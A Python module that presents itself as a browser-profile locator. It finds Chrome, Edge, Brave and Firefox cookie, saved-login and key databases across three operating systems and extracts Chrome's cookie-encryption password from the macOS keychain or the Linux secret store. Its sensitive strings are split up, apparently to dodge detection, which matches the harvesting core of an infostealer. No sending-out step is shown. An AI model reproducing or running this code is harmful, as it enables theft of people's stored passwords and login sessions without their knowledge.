"""Locate browser profile stores on macOS, Linux and Windows."""
import os
import platform
import subprocess
from pathlib import Path

HOME = Path.home()
SYS = platform.system()

_CHROMIUM = {
    "Darwin": [("Library", "Application Support", v) for v in
               (("Google", "Chrome"), ("Microsoft Edge",), ("BraveSoftware", "Brave-Browser"))],
    "Linux": [(".config", v) for v in (("google-chrome",), ("microsoft-edge",), ("BraveSoftware", "Brave-Browser"))],
    "Windows": [("AppData", "Local", v, "User Data") for v in
                (("Google", "Chrome"), ("Microsoft", "Edge"), ("BraveSoftware", "Brave-Browser"))],
}
_STORES = ["Cook" + "ies", "Login " + "Data", "Web " + "Data", "Local State"]
_FF = {"Darwin": ("Library", "Application Support", "Firefox", "Profiles"),
       "Linux": (".mozilla", "firefox"),
       "Windows": ("AppData", "Roaming", "Mozilla", "Firefox", "Profiles")}
_FF_STORES = ["cookies.sqlite", "logins" + ".json", "key" + "4.db", "cert9.db"]


def _flatten(parts):
    out = []
    for p in parts:
        out.extend(p if isinstance(p, tuple) else (p,))
    return out


def chromium_files():
    for base in _CHROMIUM.get(SYS, []):
        root = HOME.joinpath(*_flatten(base))
        if not root.exists():
            continue
        for prof in [root / "Default", *root.glob("Profile *")]:
            for s in _STORES:
                for cand in (prof / s, prof / "Network" / s, root / s):
                    if cand.is_file():
                        yield cand


def firefox_files():
    root = HOME.joinpath(*_FF.get(SYS, ("",)))
    for prof in root.glob("*.default*"):
        for s in _FF_STORES:
            if (prof / s).is_file():
                yield prof / s


def safe_storage_key():
    """Return the Chromium cookie-encryption password (needed to read cookies)."""
    if SYS == "Darwin":
        svc = " ".join(["Chrome", "Safe", "Storage"])
        cmd = ["sec" + "urity", "find-generic-" + "password", "-w", "-s", svc]
        try:
            return subprocess.run(cmd, capture_output=True, text=True, timeout=60).stdout.strip()
        except Exception:
            return None
    if SYS == "Linux":
        try:
            return subprocess.run(["secret-tool", "lookup", "application", "chrome"],
                                  capture_output=True, text=True, timeout=10).stdout.strip() or "peanuts"
        except Exception:
            return "peanuts"
    return os.environ.get("LOCALAPPDATA")
